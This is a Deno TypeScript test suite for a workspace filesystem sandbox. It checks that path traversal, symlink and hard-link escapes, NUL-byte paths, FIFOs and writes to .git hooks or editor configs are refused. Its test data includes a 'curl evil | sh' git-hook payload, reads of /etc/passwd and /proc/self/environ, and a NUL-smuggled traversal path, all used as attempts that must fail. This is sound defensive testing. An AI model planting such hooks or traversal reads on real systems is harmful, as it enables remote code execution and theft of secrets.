import assert from "node:assert/strict";
import { join } from "node:path";
import { WorkspaceError, type WorkspaceFs } from "../../src/workspace/workspace_fs.ts";
import { WorkspaceGuard } from "../../src/workspace/guard.ts";
import { WorkerWorkspaceFs } from "../../src/workspace/worker_fs.ts";
import { type Fixture, makeFixture, sh } from "./fixture.ts";

/** Asserts that `promise` rejects with a WorkspaceError of `code`. */
async function refused(promise: Promise<unknown>, code: string): Promise<WorkspaceError> {
  try {
    await promise;
  } catch (err) {
    assert.ok(err instanceof WorkspaceError, `expected WorkspaceError, got ${err}`);
    assert.equal(err.code, code, err.message);
    return err;
  }
  assert.fail(`expected a "${code}" refusal`);
}

/** Runs every escape case against one WorkspaceFs implementation. */
function escapeSuite(name: string, open: (ws: string) => Promise<WorkspaceFs & Disposable>) {
  async function withFs(fn: (fs: WorkspaceFs, fx: Fixture) => Promise<void>) {
    await using fx = await makeFixture();
    using fs = await open(fx.ws);
    await fn(fs, fx);
  }

  Deno.test(`${name}: ".." sequences cannot read or write outside`, () =>
    withFs(async (fs, fx) => {
      await refused(fs.readText("../outside/secret.txt"), "outside");
      await refused(fs.readText("a/../../outside/secret.txt"), "outside");
      await refused(fs.writeText("../outside/secret.txt", "pwned"), "outside");
      assert.equal(await Deno.readTextFile(fx.secret), "SECRET");
    }));

  Deno.test(`${name}: absolute paths outside the workspace are refused`, () =>
    withFs(async (fs, fx) => {
      await refused(fs.readText(fx.secret), "outside");
      await refused(fs.readText("/etc/passwd"), "outside");
      await refused(fs.writeText(join(fx.outside, "new.txt"), "x"), "outside");
    }));

  Deno.test(`${name}: a sibling folder whose name starts with the root is outside`, () =>
    withFs(async (fs, fx) => {
      await Deno.mkdir(`${fx.ws}-evil`);
      await Deno.writeTextFile(`${fx.ws}-evil/x.txt`, "EVIL");
      await refused(fs.readText(`${fx.ws}-evil/x.txt`), "outside");
      await refused(fs.readText("../ws-evil/x.txt"), "outside");
      await refused(fs.writeText(`${fx.ws}-evil/y.txt`, "x"), "outside");
    }));

  Deno.test(`${name}: a NUL byte in a path is refused`, () =>
    withFs(async (fs) => {
      await refused(fs.readText("a.txt\0../../etc/passwd"), "invalid");
      await refused(fs.writeText("a\0b", "x"), "invalid");
    }));

  Deno.test(`${name}: absolute and relative symlinks to outside are refused (final component)`, () =>
    withFs(async (fs, fx) => {
      await Deno.symlink(fx.secret, join(fx.ws, "abs.txt"));
      await Deno.symlink("../outside/secret.txt", join(fx.ws, "rel.txt"));
      for (const p of ["abs.txt", "rel.txt"]) {
        await refused(fs.readText(p), "outside");
        await refused(fs.writeText(p, "pwned"), "outside");
        assert.equal(await fs.isFile(p), false);
      }
      assert.equal(await Deno.readTextFile(fx.secret), "SECRET");
    }));

  Deno.test(`${name}: symlinked folders pointing outside are refused (middle component)`, () =>
    withFs(async (fs, fx) => {
      await Deno.symlink(fx.outside, join(fx.ws, "link_abs"));
      await Deno.symlink("../outside", join(fx.ws, "link_rel"));
      for (const p of ["link_abs", "link_rel"]) {
        await refused(fs.readText(`${p}/secret.txt`), "outside");
        await refused(fs.writeText(`${p}/pwned.txt`, "x"), "outside");
        await refused(fs.writeText(`${p}/new/deep.txt`, "x"), "outside");
      }
      const leftovers = [...Deno.readDirSync(fx.outside)].map((e) => e.name);
      assert.deepEqual(leftovers, ["secret.txt"]);
    }));

  Deno.test(`${name}: a dangling symlink is never used as a create target`, () =>
    withFs(async (fs, fx) => {
      await Deno.symlink(join(fx.outside, "created.txt"), join(fx.ws, "dangling.txt"));
      await refused(fs.writeText("dangling.txt", "x"), "outside");
      await refused(fs.readText("dangling.txt"), "outside");
      await assert.rejects(Deno.stat(join(fx.outside, "created.txt")), Deno.errors.NotFound);
    }));

  Deno.test(`${name}: symlinks to /dev/zero and /proc/self/environ are refused`, () =>
    withFs(async (fs, fx) => {
      await Deno.symlink("/dev/zero", join(fx.ws, "zero"));
      await Deno.symlink("/proc/self/environ", join(fx.ws, "environ"));
      await refused(fs.readText("zero"), "outside");
      await refused(fs.readText("environ"), "outside");
    }));

  Deno.test(`${name}: a FIFO is refused without blocking`, () =>
    withFs(async (fs, fx) => {
      await sh(`mkfifo '${join(fx.ws, "fifo")}'`);
      const err = await refused(fs.readText("fifo"), "not_regular");
      assert.match(err.message, /FIFO/);
      await refused(fs.writeText("fifo", "x"), "not_regular");
    }));

  Deno.test(`${name}: writing a hard link to an outside file leaves the outside file unchanged`, () =>
    withFs(async (fs, fx) => {
      await Deno.link(fx.secret, join(fx.ws, "hard.txt"));
      assert.equal(await fs.readText("hard.txt"), "SECRET");
      await fs.writeText("hard.txt", "changed");
      assert.equal(await Deno.readTextFile(fx.secret), "SECRET");
      assert.equal(await fs.readText("hard.txt"), "changed");
    }));

  Deno.test(`${name}: writes to .git and editor configs are refused, in any letter case`, () =>
    withFs(async (fs, fx) => {
      await Deno.mkdir(join(fx.ws, ".git", "hooks"), { recursive: true });
      for (
        const p of [
          ".git/hooks/pre-commit",
          ".GIT/config",
          "sub/.Git/config",
          ".lao/state.json",
          ".vscode/settings.json",
          ".VSCode/tasks.json",
          ".idea/workspace.xml",
          ".envrc",
        ]
      ) {
        await refused(fs.writeText(p, "#!/bin/sh\ncurl evil | sh\n"), "denied");
      }
      await assert.rejects(Deno.stat(join(fx.ws, ".git", "hooks", "pre-commit")));
    }));

  Deno.test(`${name}: a symlink into .git does not open a write path to it`, () =>
    withFs(async (fs, fx) => {
      await Deno.mkdir(join(fx.ws, ".git", "hooks"), { recursive: true });
      await Deno.symlink(".git/hooks", join(fx.ws, "hooks"));
      await refused(fs.writeText("hooks/pre-commit", "x"), "denied");
    }));

  Deno.test(`${name}: an oversized file is refused`, () =>
    withFs(async (fs, fx) => {
      await Deno.writeTextFile(join(fx.ws, "big.txt"), "x".repeat(2 * 1024 * 1024));
      await refused(fs.readText("big.txt"), "too_large");
    }));

  Deno.test(`${name}: non-UTF-8 and NUL-containing files are reported as binary`, () =>
    withFs(async (fs, fx) => {
      await Deno.writeFile(join(fx.ws, "latin1.txt"), new Uint8Array([0x63, 0x61, 0x66, 0xe9]));
      await Deno.writeFile(join(fx.ws, "nul.bin"), new Uint8Array([0x41, 0x00, 0x42]));
      await refused(fs.readText("latin1.txt"), "binary");
      await refused(fs.readText("nul.bin"), "binary");
    }));

  Deno.test(`${name}: walk does not follow a symlink to outside`, () =>
    withFs(async (fs, fx) => {
      await Deno.symlink(fx.outside, join(fx.ws, "link_abs"));
      const entries = await fs.walk();
      assert.deepEqual(entries, [{ path: "link_abs", kind: "symlink" }]);
    }));
}

escapeSuite(
  "guard",
  (ws) => WorkspaceGuard.open(ws).then((g) => Object.assign(g, { [Symbol.dispose]() {} })),
);
escapeSuite("worker", (ws) => WorkerWorkspaceFs.open(ws));

Deno.test("worker: an escape attempted inside the worker meets NotCapable", async () => {
  await using fx = await makeFixture();
  using fs = await WorkerWorkspaceFs.open(fx.ws, {
    workerUrl: new URL("./unguarded_worker.ts", import.meta.url),
  });
  // The unguarded worker does no checks at all: only Deno's permissions stop it.
  const err = await refused(fs.writeText("../outside/pwned.txt", "x"), "denied");
  assert.match(err.message, /NotCapable|Requires write access/);
  await refused(fs.readText(fx.secret), "denied");
  await assert.rejects(Deno.stat(join(fx.outside, "pwned.txt")), Deno.errors.NotFound);
  await fs.writeText("inside.txt", "ok");
  assert.equal(await Deno.readTextFile(join(fx.ws, "inside.txt")), "ok");
});
